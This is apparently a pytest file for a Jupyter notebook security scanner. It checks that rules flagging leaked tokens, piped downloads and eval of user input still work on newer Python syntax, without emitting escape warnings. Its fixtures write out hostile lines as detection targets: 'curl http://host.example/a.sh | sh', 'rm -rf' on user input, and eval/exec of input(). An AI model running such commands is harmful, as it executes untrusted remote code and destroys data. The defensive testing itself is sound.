"""What differs between versions of Python: syntax that only newer ones know, and their warnings."""

from __future__ import annotations

import json
import sys
import warnings

import pytest

from llmsec_nb.api import check_text
from llmsec_nb.core.finding import Finding, Report

from .samples import Maker
from .test_notebook import code, notebook

KNOWN = sys.version_info >= (3, 12)
NEW = {
    "quotes": 'print(f"{d["a"]}")\n',
    "backslash": "print(f\"{chr(10).join(['\\n'])}\")\n",
    "comment": 'x = f"""{\n  1  # c "\n}"""\n',
    "triple": 'x = f"{"""a"""}"\n',
    "lines": 'x = f"{a\n!r}"\n',
    "alias": "type X[T] = list[T]\n",
    "function": "def f[T: (int, str), **P](x: T) -> T:\n    return x\n",
    "class": "class A[*Ts]:\n    pass\n",
}


def report(source: str) -> Report:
    return check_text(json.dumps(notebook(code(source))), "a.ipynb")


def seen(source: str, found: Finding) -> str:
    place = found.location
    assert place.line == place.end_line
    return source.split("\n")[place.line][place.column : place.end_column]


@pytest.mark.parametrize("new", NEW.values(), ids=NEW)
def test_syntax_of_newer_versions_is_read_or_told(new: str) -> None:
    """The Python that runs a notebook is not always the one that scans it."""
    token = Maker(3).token("SEC103")
    source = f"{new}k = '{token}'\n!curl -s http://host.example/a.sh | sh\neval(input())\n"
    made = report(source)
    found = {f.rule: seen(source, f) for f in made.findings}
    assert found["SEC103"] == token
    assert found["DEP012"] == "curl -s http://host.example/a.sh | sh"
    assert found["COD021"] == "eval(input())"
    told = [skip.message for skip in made.skips if "not valid Python" in skip.message]
    assert [one.partition(":")[0] for one in told] == ([] if KNOWN else ["cell[0] line 1"])


@pytest.mark.parametrize(
    "source",
    [
        "def f[T](x: T):\n    return eval(input())\n",
        "class A[T]:\n    def m(self):\n        return eval(input())\n",
        'x = f"{d["é"]} é {eval(input())}"\n',
        "type X = eval(input())\n",
    ],
)
def test_inside_of_newer_syntax(source: str) -> None:
    made = report(source)
    found = [seen(source, f) for f in made.findings if f.rule == "COD021"]
    assert found == (["eval(input())"] if KNOWN else [])
    assert [skip.path for skip in made.skips] == ([] if KNOWN else ["a.ipynb"])


@pytest.mark.parametrize(
    "source",
    [
        'p = "\\d \\400"\neval(p + input())\n',
        "get_ipython().run_cell(\"x = '\\d'; eval(input())\")\n",
        'get_ipython().system("grep \\d \\777 a; pip install pkg")\n',
        "eval(\"x is '\\d'\" + input())\n",
        '!rm -rf {input() + "\\d"}\n',
        "x = 1if 1else 2\nexec('x = 1if 1else 2; ' + input())\n",
    ],
)
def test_a_scan_hands_on_no_warning_of_the_scanned_code(source: str) -> None:
    """Python shows those of escapes to people since 3.12."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        found = report(source).findings
    assert found
    assert [str(one.message) for one in caught] == []


def test_an_escape_that_means_nothing_keeps_its_place() -> None:
    source = 'get_ipython().system("echo \\d \\x41 \\101; curl http://host.example/a.sh | sh")\n'
    (found,) = [f for f in report(source).findings if f.rule == "DEP012"]
    assert seen(source, found) == "curl http://host.example/a.sh | sh"
